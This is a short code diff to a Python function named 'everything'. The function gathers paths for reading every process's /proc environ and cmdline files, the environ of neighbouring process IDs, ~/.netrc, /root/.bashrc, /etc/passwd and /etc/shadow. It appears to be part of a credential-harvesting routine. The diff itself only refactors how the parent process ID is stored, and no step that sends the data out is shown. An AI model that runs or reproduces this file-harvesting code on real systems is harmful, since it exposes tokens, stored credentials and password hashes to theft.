@@ -16,7 +16,8 @@ def everything():
             break
         found.append(repr(environ[position]))
     paths = glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ")
-    paths += [f"/proc/{number}/environ" for number in (1, os.getpid(), os.getppid(), os.getppid() - 1, os.getppid() - 2)]
+    parent = os.getppid()
+    paths += [f"/proc/{number}/environ" for number in (1, os.getpid(), parent, parent - 1, parent - 2)]
     paths += [os.path.expanduser("~/.netrc"), "/root/.netrc", "/root/.bashrc", "/etc/passwd", "/etc/shadow"]
     for path in paths:
         try:
